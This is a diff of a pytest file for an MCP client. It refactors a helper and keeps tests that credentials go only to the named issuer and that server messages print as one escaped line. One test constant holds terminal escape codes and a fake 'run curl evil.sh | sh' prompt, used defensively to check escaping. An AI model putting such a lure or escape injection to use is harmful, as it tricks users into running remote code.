@@ -9,20 +9,17 @@ import urllib.parse
 import jwt
 import pytest
 from cryptography.hazmat.primitives import serialization
-from cryptography.hazmat.primitives.asymmetric import ec
 
-from conftest import ROOT, one_line_error, refusal, run
+from conftest import ROOT, client_py, one_line_error, p256_key, refusal, run
 from fakes import Fake
 
 ESCAPES = "\x1b[2J\x1b[31mYOUR SESSION EXPIRED: run curl evil.sh | sh\nsecond line"
 
 
-def client_py(*args: str, secret: str | None = None) -> str:
-    env = {k: v for k, v in os.environ.items() if k != "MCP_CLIENT_SECRET"}
-    if secret is not None:
-        env["MCP_CLIENT_SECRET"] = secret
-    command = [sys.executable, str(ROOT / "client.py"), *args]
-    return one_line_error(run(command, env={**env, "PYTHONIOENCODING": "utf-8"}, timeout=60))
+def client_line(*args: str, secret: str | None = None) -> str:
+    """The one line client.py fails with, given `args` (and MCP_CLIENT_SECRET=secret)."""
+    env = {} if secret is None else {"MCP_CLIENT_SECRET": secret}
+    return one_line_error(client_py(*args, env=env, timeout=60))
 
 
 @pytest.mark.parametrize("secret", [None, "s3cret"], ids=["a key", "a secret"])
@@ -32,7 +29,7 @@ def test_credentials_go_to_no_authorization_server_but_the_issuer(keys, secret):
         ours.acts_as_authorization_server()
         theirs.acts_as_authorization_server()
         args = ["--url", url, "--client-id", "c1", "--issuer", ours.url]
-        line = client_py(*args, "--private-key", str(keys / "private.pem"), secret=secret)
+        line = client_line(*args, "--private-key", str(keys / "private.pem"), secret=secret)
         assert theirs.requests == [] and ours.requests == [], line
     assert line.endswith(f"it names {[theirs.url]}, not --issuer {ours.url}: nothing sent"), line
 
@@ -49,7 +46,7 @@ def test_metadata_served_elsewhere_is_checked_as_well(keys, content_type):
         mcp.answer("POST", "/mcp", 401, headers={"WWW-Authenticate": challenge})
         theirs.acts_as_authorization_server()
         args = ["--url", url, "--client-id", "c1", "--issuer", ours.url]
-        line = client_py(*args, "--private-key", str(keys / "private.pem"))
+        line = client_line(*args, "--private-key", str(keys / "private.pem"))
         assert theirs.requests == [], line
     assert line.endswith(f"it names {[theirs.url]}, not --issuer {ours.url}: nothing sent"), line
 
@@ -59,27 +56,16 @@ def test_client_id_without_issuer_is_refused_before_anything_is_sent():
     assert line == "Error: --client-id needs --issuer: the one server its credentials may go to"
 
 
-def ec_key_file(folder) -> str:
-    key = ec.generate_private_key(ec.SECP256R1())
-    pem = key.private_bytes(
-        serialization.Encoding.PEM,
-        serialization.PrivateFormat.PKCS8,
-        serialization.NoEncryption(),
-    )
-    (folder / "ec.pem").write_bytes(pem)
-    return str(folder / "ec.pem")
-
-
 @pytest.mark.parametrize("kind, algorithm", [("RSA", "RS256"), ("P-256", "ES256")])
 def test_the_assertion_is_signed_with_the_keys_own_algorithm_for_the_issuer(
     keys, tmp_path, kind, algorithm
 ):
-    key_file = str(keys / "private.pem") if kind == "RSA" else ec_key_file(tmp_path)
+    key_file = str(keys / "private.pem" if kind == "RSA" else p256_key(tmp_path))
     with Fake() as mcp, Fake() as auth:
         url = mcp.names_authorization_server(auth.url)
         auth.acts_as_authorization_server()
         args = ["--url", url, "--client-id", "c1", "--issuer", auth.url, "--private-key", key_file]
-        line = client_py(*args)
+        line = client_line(*args)
         (token_request,) = [r for r in auth.requests if r.path == "/token"]
     assert "invalid_client" in line, line
     form = dict(urllib.parse.parse_qsl(token_request.body.decode()))
@@ -100,14 +86,14 @@ def test_a_servers_words_reach_the_terminal_escaped_on_one_line(keys):
     with Fake() as mcp:
         challenge = f'Bearer error="invalid_request", error_description="{ESCAPES}"'
         mcp.answer("POST", "/mcp", 400, headers={"WWW-Authenticate": challenge.replace("\n", "")})
-        line = client_py("--url", f"{mcp.url}/mcp", "--private-key", str(keys / "private.pem"))
+        line = client_line("--url", f"{mcp.url}/mcp", "--private-key", str(keys / "private.pem"))
     assert "\x1b" not in line and "\\x1b[2J\\x1b[31mYOUR SESSION EXPIRED" in line, line
 
 
 def test_a_redirects_location_reaches_the_terminal_escaped(keys):
     with Fake() as mcp:
         mcp.answer("POST", "/mcp", 307, headers={"Location": "http://x/\x1b[31mred"})
-        line = client_py("--url", f"{mcp.url}/mcp", "--private-key", str(keys / "private.pem"))
+        line = client_line("--url", f"{mcp.url}/mcp", "--private-key", str(keys / "private.pem"))
     assert "\x1b" not in line and "http://x/\\x1b[31mred" in line, line
 
 
@@ -117,7 +103,7 @@ def test_an_authorization_servers_error_stays_one_escaped_line(keys):
         auth.acts_as_authorization_server()
         auth.answer("POST", "/token", 401, json_body={"error": "invalid_client", "x": ESCAPES})
         args = ["--url", url, "--client-id", "c1", "--issuer", auth.url]
-        line = client_py(*args, "--private-key", str(keys / "private.pem"))
+        line = client_line(*args, "--private-key", str(keys / "private.pem"))
     assert "\x1b" not in line and "\\nsecond line" in line, line
 
 
